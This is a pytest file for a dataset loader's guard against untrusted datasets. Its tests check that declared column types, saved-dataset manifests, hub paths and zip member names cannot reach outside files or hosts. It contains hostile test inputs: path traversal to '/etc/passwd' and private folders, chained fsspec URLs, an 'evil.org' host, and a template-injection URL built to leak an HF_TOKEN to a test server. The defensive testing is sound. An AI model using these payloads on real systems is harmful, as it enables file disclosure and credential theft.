"""Datasets of strangers: what their columns and lists of files name is not opened."""

from __future__ import annotations

import json
import os
import threading
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gpt_pretrain.errors import UserError
from gpt_pretrain.texts.chunks import ReadPosition
from gpt_pretrain.texts.datasets.guard import _OwnFiles, own_files_only
from gpt_pretrain.texts.inputs import StreamedDataset
from gpt_pretrain.texts.records.tables import read_dataset
from tests.helpers.hostile_server import Stranger
from tests.helpers.read_datasets import declare, read

datasets = pytest.importorskip("datasets")


class Listener(ThreadingHTTPServer):
    """A server that notes the requested paths and has none of them."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), NotFound)
        self.asked: list[str] = []


class NotFound(BaseHTTPRequestHandler):
    server: Listener

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_error(404)

    def do_HEAD(self) -> None:
        self.do_GET()

    def log_message(self, *arguments: object) -> None:
        pass


class Busy(NotFound):
    def do_GET(self) -> None:
        self.send_response(503)
        self.send_header("Retry-After", "100000000")
        self.send_header("Content-Length", "0")
        self.end_headers()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(
    ("column_type", "name"),
    [
        ("dtype: image", "Image"),
        ("dtype: audio", "Audio"),
        ("dtype: video", "Video"),
        ("dtype: pdf", "Pdf"),
        ("dtype: nifti", "Nifti"),
        ("sequence: image", "List"),
        ("list: image", "List"),
        ("struct:\n    - name: x\n      dtype: image", "dict"),
    ],
)
@pytest.mark.parametrize("chain", ["", "reference://x::", "simplecache::"])
def test_a_column_declared_as_anything_but_text_is_not_opened(
    listener: Listener, tmp_path: Path, column_type: str, name: str, chain: str
) -> None:
    address = f"{chain}http://127.0.0.1:{listener.server_port}/row"
    value: Any = {"x": address} if name == "dict" else [address] if name == "List" else address
    (tmp_path / "data.jsonl").write_text(json.dumps({"text": value, "title": "plain"}) + "\n")
    declare(tmp_path, column_type)
    with pytest.raises(UserError, match=rf"column text is of the type {name}, .* Set text_field= to a column of text: title\."):
        read(tmp_path)
    assert listener.asked == []


@pytest.mark.parametrize("kind", ["parquet", "arrow", "saved", "saved split"])
def test_a_column_of_images_in_the_schema_of_a_file_is_not_opened(listener: Listener, tmp_path: Path, kind: str) -> None:
    address = f"http://127.0.0.1:{listener.server_port}/row"
    schema = datasets.Features({"text": datasets.Image()}).arrow_schema  # its metadata declares the type
    table = pa.Table.from_pylist([{"text": {"path": address, "bytes": None}}], schema=schema)
    theirs = tmp_path / "theirs"
    if kind.startswith("saved"):
        part = save(datasets.Dataset.from_dict({"text": ["own"]}), theirs, in_split=kind == "saved split")
        (file,) = part.glob("*.arrow")
        info = json.loads((part / "dataset_info.json").read_text())
        (part / "dataset_info.json").write_text(json.dumps(info | {"features": {"text": {"_type": "Image"}}}))
    else:
        theirs.mkdir()
        file = theirs / f"a.{kind}"
    if kind == "parquet":
        pq.write_table(table, file)
    else:
        with pa.ipc.new_stream(file, schema) as stream:
            stream.write_table(table)
    with pytest.raises(UserError, match=r"column text is of the type Image, .* It has no column of text\."):
        read(theirs)
    assert listener.asked == []


def save(made: Any, folder: Path, *, in_split: bool) -> Path:
    """Write a dataset as save_to_disk does, also in a split named train, and return the folder of its files."""
    (datasets.DatasetDict({"train": made}) if in_split else made).save_to_disk(folder)
    return folder / "train" if in_split else folder


@pytest.mark.parametrize("column_type", ["dtype: string", "dtype: large_string", "dtype: binary"])
def test_a_column_declared_as_text_is_read(tmp_path: Path, column_type: str) -> None:
    (tmp_path / "data.jsonl").write_text('{"text": "one", "title": "plain"}\n')
    declare(tmp_path, column_type)
    assert read(tmp_path) in (["one"], [b"one"])


@pytest.mark.parametrize("other", ["image", "audio"])
def test_other_columns_are_not_opened(listener: Listener, tmp_path: Path, other: str) -> None:
    row = {"text": "one", "title": f"http://127.0.0.1:{listener.server_port}/row"}
    (tmp_path / "data.jsonl").write_text(json.dumps(row) + "\n")
    declare(tmp_path, "dtype: string")
    readme = tmp_path / "README.md"
    readme.write_text(readme.read_text().replace("title\n    dtype: string", f"title\n    dtype: {other}"))
    assert read(tmp_path) == ["one"]
    assert listener.asked == []


# Saved datasets


@pytest.mark.parametrize("in_split", [False, True])
@pytest.mark.parametrize(
    "name", ["{tmp}/private/data.arrow", "../private/data.arrow", "../../private/data.arrow", "file://{tmp}/x", "..", "", 5, None]
)
def test_a_saved_dataset_lists_only_files_of_its_own_folder(tmp_path: Path, in_split: bool, name: Any) -> None:
    private = save(datasets.Dataset.from_dict({"text": ["secret"]}), tmp_path / "private", in_split=False)
    next(private.glob("*.arrow")).rename(private / "data.arrow")
    part = save(datasets.Dataset.from_dict({"text": ["own"]}), tmp_path / "theirs", in_split=in_split)
    assert read(tmp_path / "theirs") == ["own"]
    state = json.loads((part / "state.json").read_text())
    state["_data_files"] = [{"filename": name.format(tmp=tmp_path) if isinstance(name, str) else name}]
    (part / "state.json").write_text(json.dumps(state))
    with pytest.raises(UserError, match="is not the plain name of a file in the same folder"):
        read(tmp_path / "theirs")


@pytest.mark.parametrize(
    "splits", [["../private"], ["{tmp}/private"], ["train", "x::file:///"], {"../private": 1}, "train", None]
)
def test_a_saved_dataset_has_only_splits_in_its_own_folder(tmp_path: Path, splits: Any) -> None:
    save(datasets.Dataset.from_dict({"text": ["secret"]}), tmp_path / "private", in_split=False)
    save(datasets.Dataset.from_dict({"text": ["own"]}), tmp_path / "theirs", in_split=True)
    listed = json.dumps({"splits": splits}).replace("{tmp}", str(tmp_path))
    (tmp_path / "theirs" / "dataset_dict.json").write_text(listed)
    split = json.loads(listed)["splits"]
    with pytest.raises(UserError, match=r"not the plain name|not a list"):
        read(tmp_path / "theirs", split=next(iter(split)) if isinstance(split, list | dict) else "train")


@pytest.mark.parametrize("in_split", [True, False])
def test_a_saved_dataset_lists_each_part_once(tmp_path: Path, in_split: bool) -> None:
    part = save(datasets.Dataset.from_dict({"text": ["own"]}), tmp_path / "saved", in_split=in_split)
    file, key = (tmp_path / "saved" / "dataset_dict.json", "splits") if in_split else (part / "state.json", "_data_files")
    content = json.loads(file.read_text())
    file.write_text(json.dumps(content | {key: content[key] * 2}))
    with pytest.raises(UserError, match=r"it lists '(train|data-.*\.arrow)' twice"):
        read(tmp_path / "saved")


@pytest.mark.parametrize("kind", ["link", "link of the folder", "FIFO"])
def test_files_of_a_saved_dataset_are_regular_and_in_its_folder(tmp_path: Path, kind: str) -> None:
    private = save(datasets.Dataset.from_dict({"text": ["secret"]}), tmp_path / "private", in_split=False)
    part = save(datasets.Dataset.from_dict({"text": ["own"]}), tmp_path / "theirs", in_split=True)
    (file,) = part.glob("*.arrow")
    if kind == "link of the folder":
        part.rename(tmp_path / "away")
        part.symlink_to(private)
    else:
        file.unlink()
        if kind == "link":
            file.symlink_to(next(private.glob("*.arrow")))
        else:
            os.mkfifo(file)
    with pytest.raises(UserError, match=r"is not read: .*(a link that leads out of its folder|not a regular file)"):
        read(tmp_path / "theirs")


def test_a_saved_dataset_of_tensors_gives_its_text(tmp_path: Path) -> None:
    made = datasets.Dataset.from_dict({"text": ["own"], "n": [1]}).with_format("numpy", columns=["n"])
    save(made, tmp_path / "theirs", in_split=False)
    assert read(tmp_path / "theirs") == ["own"]


@pytest.mark.parametrize(
    "where", ["{tmp}/secret.txt", "file://{tmp}/secret.txt", "../secret.txt", "zip://x::{url}/x.zip", "{url}/x.txt"]
)
def test_the_description_of_a_dataset_names_only_its_own_files(stranger: Stranger, tmp_path: Path, where: str) -> None:
    pytest.importorskip("datasets")
    (tmp_path / "secret.txt").write_text("secret line")
    (tmp_path / "theirs").mkdir()
    named = json.dumps(where.format(tmp=tmp_path, url=stranger.url))
    listed = f"configs:\n- config_name: default\n  data_files:\n  - split: train\n    path: {named}\n"
    (tmp_path / "theirs" / "README.md").write_text(f"---\n{listed}---\n")
    (tmp_path / "theirs" / "own.txt").write_text("own line")
    dataset = StreamedDataset(str(tmp_path / "theirs"), None, "train")
    with pytest.raises(UserError, match="which is not a file of the dataset itself"):
        list(read_dataset(dataset, "text", start=ReadPosition()))
    assert stranger.asked == []
    (tmp_path / "theirs" / "README.md").write_text("---\nconfigs:\n- config_name: default\n  data_files: own.txt\n---\n")
    assert "own line" in str(list(read_dataset(dataset, "text", start=ReadPosition())))


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("hf://datasets/them/theirs@main/x.txt", True),
        ("hf://datasets/them/theirs/x.txt", True),
        ("{endpoint}/datasets/them/theirs/resolve/main/README.md", True),
        ("hf://datasets/them/theirs-and-others@main/x.txt", False),
        ("hf://datasets/them/theirs@main/../../others/x@main/x.txt", False),
        ("hf://datasets/others/x@main/x.txt", False),
        ("{endpoint}.evil.org/datasets/them/theirs/resolve/main/README.md", False),
        ("hf://datasets/theirs/x@main/x.txt", False),
        ("hf://buckets/them/theirs/x.txt", False),
        ("/etc/passwd", False),
        ("https://host/x.txt", False),
        ("reference://d::http://host/x.json", False),
    ],
)
@pytest.mark.parametrize("name", ["theirs", "them/theirs"])
def test_a_dataset_of_the_hub_has_only_files_of_its_repository(name: str, path: str, own: bool) -> None:
    assert _OwnFiles(name).includes(path.format(endpoint=datasets.config.HF_ENDPOINT)) == own


# Archives


def write_zip(file: Path, *names: str) -> None:
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", "own line\n")
        for name in names:
            archive.writestr(name, "{}")


@pytest.mark.parametrize(
    "member",
    [
        "w::reference::{theirs}/refs.md5/doc.txt",
        "w::reference::refs.md5/doc.txt",
        "w::{private}/document.xml",
        "w::zip::{private}/document.xml",
        "w::simplecache::{url}/x.zip/document.xml",
        "w::{url}/x.zip/document.xml",
        "w::zip://v::{theirs}/data.zip/document.xml",
        "zip:/::{theirs}/data.zip",
    ],
)
@pytest.mark.parametrize("archive", ["data.zip", "logs.eval"])
def test_a_name_in_an_archive_leads_nowhere(
    stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, member: str, archive: str
) -> None:
    private, theirs = tmp_path / "contract.docx", tmp_path / "theirs"
    theirs.mkdir()
    with zipfile.ZipFile(private, "w") as made:
        made.writestr("document.xml", "the salary")
    address = f"{stranger.url}/leak?{{{{u.__globals__[os].environ[HF_TOKEN]}}}}"
    keys = ("", f"{theirs}/refs.md5", f"{theirs}/refs.md5".lstrip("/"), "refs.md5", "/")
    refs = {"version": 1, "templates": {"u": "{{x}}"}, "refs": {key: [address, 0, 100] for key in keys}}
    (theirs / "refs.md5").write_text(json.dumps(refs))
    member = member.format(theirs=theirs, private=private, url=stranger.url)
    write_zip(theirs / archive, f"{member}/samples/1_epoch_1.json" if archive == "logs.eval" else member)
    monkeypatch.setenv("HF_TOKEN", "hf_SECRETTOKEN")
    monkeypatch.chdir(theirs)  # where a relative name is a file of the dataset
    try:
        found = read(theirs)
    except UserError as error:
        assert "which is not a file of the dataset itself" in str(error) or "of the kind eval" in str(error)
    else:  # fsspec lists no name with two slashes in a row
        assert "//" in member and set(found) == {"own line"}
    assert stranger.asked == []


def test_an_archive_is_read(tmp_path: Path) -> None:
    write_zip(tmp_path / "data.zip", "further/b.txt")
    assert read(tmp_path) == ["own line", "{}"]


def test_only_file_systems_of_datasets_exist_while_one_is_read(tmp_path: Path) -> None:
    import fsspec

    opened = "reference://x", "github://a:b@c", "memory://x", "simplecache::memory://x", "dir::memory://x"
    with own_files_only(str(tmp_path)):
        for url in opened:
            with pytest.raises(UserError, match="which is not a file of the dataset itself"):
                fsspec.open(url)
    fsspec.open("memory://x")


def test_a_dataset_is_watched_while_its_records_are_read(tmp_path: Path) -> None:
    import fsspec

    (tmp_path / "a.txt").write_text("one\ntwo\n")
    records = read_dataset(StreamedDataset(str(tmp_path), None, "train"), "text", start=ReadPosition())
    next(records)
    with pytest.raises(UserError, match="which is not a file of the dataset itself"):
        fsspec.open("memory://x")
    records.close()
    fsspec.open("memory://x")


def test_a_hub_does_not_choose_how_long_to_wait_for_it(
    listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from huggingface_hub import constants
    from huggingface_hub.utils import http_backoff

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    listener.RequestHandlerClass = Busy
    pauses: list[float] = []
    monkeypatch.setattr(time, "sleep", pauses.append)
    with own_files_only(str(tmp_path)), pytest.raises(Exception, match="503"):
        http_backoff("GET", f"http://127.0.0.1:{listener.server_address[1]}/x", max_retries=2, retry_on_status_codes=503)
    assert pauses == [60, 60]


@pytest.mark.parametrize("name", ["a.h5", "a.lance/data/x.lance", "a.vortex", "a.pdf", "a.png", "a.tar"])
def test_files_that_may_name_other_files_are_not_read(tmp_path: Path, name: str) -> None:
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_bytes(b"\x89HDF\r\n\x1a\n" + b"\0" * 100)
    with pytest.raises(UserError, match=r"its files are of the kind .*, whose reader may open other files as well"):
        read(tmp_path)
